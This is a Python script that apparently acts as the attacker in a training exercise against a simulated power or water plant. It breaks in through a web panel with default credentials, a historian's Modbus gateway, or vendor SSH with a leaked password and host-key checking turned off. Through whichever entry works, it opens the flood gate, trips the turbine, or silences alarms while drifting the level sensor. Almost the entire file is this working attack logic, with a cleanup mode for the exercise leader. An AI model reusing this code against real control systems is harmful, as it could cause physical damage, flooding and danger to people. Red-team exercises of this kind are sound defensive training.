"""The adversary: comes in by whichever door still stands open, and does to the plant what the wave is about.

motstander.py WAVE [later]   1: opens the flood gate   2: trips the turbine   3: lets the level measurement drift
motstander.py rydd           leaves, and puts back what it did: for who leads the exercise
"""

import http.client
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from urllib.parse import urlencode

from modbus import Client, ModbusError

Write = Callable[[str, int, int], None]  # kind (coil or register), address, value
AUTOMATIC, TRIP, RESET, MUTED = range(4)
GATE, MOST_FLOW, ZERO = 2, 3, 10
PANEL_COILS = {AUTOMATIC: "automatic", TRIP: "trip", RESET: "reset", MUTED: "mute"}
PANEL_FIELDS = {GATE: ("gate", 10, 0), MOST_FLOW: ("most_flow", 100, 0), ZERO: ("zero", 100, 400)}
TRUE_ZERO, DRIFT_CM = 600, 8
# What a healthy plant has, in the order it is put back.
HEALTHY = (("register", ZERO, TRUE_ZERO), ("register", MOST_FLOW, 1500), ("register", GATE, 0), ("coil", AUTOMATIC, 1),
           ("coil", MUTED, 0), ("coil", RESET, 1))  # fmt: skip
RUNNING = Path("/tmp/motstander.pid")
# Wave -> doors in the order they are tried, how many times it strikes, and how long it waits between.
PLANS = {1: ("panel gateway door", 1, 0.0), 2: ("gateway panel door", 6, 20.0), 3: ("door gateway panel", 12, 20.0)}
SSH = ["ssh", "-p", "2222", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
       "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5", "-o", "PreferredAuthentications=password",
       "leverandor@hmi"]  # fmt: skip


class Closed(Exception):
    """This door does not lead in."""


def panel() -> Write:
    """The operator panel with the factory's password."""
    answer = posted("/inn", {"bruker": "operator", "passord": "operator"}, "")
    cookie = (answer.getheader("Set-Cookie") or "").split(";")[0]
    if answer.status != 303 or not cookie:
        raise Closed

    def write(kind: str, address: int, value: int) -> None:
        if kind == "coil":
            posted("/bryter", {PANEL_COILS[address]: str(value)}, cookie)
        else:
            name, scale, datum = PANEL_FIELDS[address]
            posted("/sett", {name: f"{value / scale + datum:g}"}, cookie)

    return write


def posted(path: str, form: dict[str, str], cookie: str) -> http.client.HTTPResponse:
    """The panel's answer to a form."""
    connection = http.client.HTTPConnection("hmi", 8080, timeout=5)
    headers = {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie}
    connection.request("POST", path, urlencode(form), headers)
    return connection.getresponse()


def gateway() -> Write:
    """The historian's gateway to the controller."""
    client = Client("historikk")
    client.write_register(90, client.registers(90)[0])  # refused where writing is limited

    def write(kind: str, address: int, value: int) -> None:
        if kind == "coil":
            client.write_coil(address, bool(value))
        else:
            client.write_register(address, value)

    return write


def door() -> Write:
    """The vendor's remote maintenance, with the password of a project file that went astray."""
    run("true")

    def write(kind: str, address: int, value: int) -> None:
        run(f"modbus plc skriv-{'spole' if kind == 'coil' else 'reg'} {address} {value}")

    return write


def run(command: str) -> None:
    """A command on the engineering workstation."""
    environment = {**os.environ, "SSHPASS": os.environ["LEVERANDOR_PASSORD"]}
    done = subprocess.run(["sshpass", "-e", *SSH, command], env=environment, capture_output=True, timeout=12)
    if done.returncode != 0:
        raise Closed


DOORS: dict[str, Callable[[], Write]] = {"panel": panel, "gateway": gateway, "door": door}


def strike(wave: int, turn: int, write: Write) -> None:
    """What a wave does on its `turn`, counted from 0."""
    if wave == 1:
        write("coil", AUTOMATIC, 0)
        write("register", GATE, 1000)
    elif wave == 2:
        write("register", MOST_FLOW, 700)
        write("coil", TRIP, 1)
    else:
        write("coil", MUTED, 1)
        write("register", ZERO, TRUE_ZERO + DRIFT_CM * (turn + 1))


def heal(write: Write) -> None:
    """Everything as it was."""
    for kind, address, value in HEALTHY:
        write(kind, address, value)


def through(doors: str, act: Callable[[Write], None]) -> str:
    """The door it was done through, empty when none stood open."""
    for name in doors.split():
        try:
            act(DOORS[name]())
        except (Closed, ModbusError, OSError, http.client.HTTPException, subprocess.TimeoutExpired):
            continue
        return name
    return ""


def once(wave: int, turn: int) -> str:
    """One strike of a wave; the door it went through."""
    return through(PLANS[wave][0], lambda write: strike(wave, turn, write))


def later(wave: int) -> None:
    """The strikes that follow the first, as long as a door stands open."""
    _, times, pause_s = PLANS[wave]
    for turn in range(1, times):
        time.sleep(pause_s)
        once(wave, turn)


def leave() -> None:
    """End the strikes that would still come."""
    if RUNNING.exists():
        with suppress(ProcessLookupError):
            os.killpg(int(RUNNING.read_text()), signal.SIGTERM)
        RUNNING.unlink()


def send_later(wave: int) -> None:
    """Let the further strikes follow by themselves, in place of those of an earlier wave."""
    leave()
    if PLANS[wave][1] > 1:
        command, quiet = [sys.executable, __file__, str(wave), "later"], subprocess.DEVNULL
        started = subprocess.Popen(command, stdin=quiet, stdout=quiet, stderr=quiet, start_new_session=True)
        RUNNING.write_text(str(started.pid))


def main() -> None:
    """Strike once and tell how it went, or leave."""
    order, *more = sys.argv[1:]
    if order == "rydd":
        leave()
        name = through("gateway panel door", heal)
    elif more:
        later(int(order))
        return
    else:
        name = once(int(order), 0)
        send_later(int(order))
    print(f"{order}: {'in by the ' + name if name else 'every door is closed'}")


if __name__ == "__main__":
    main()
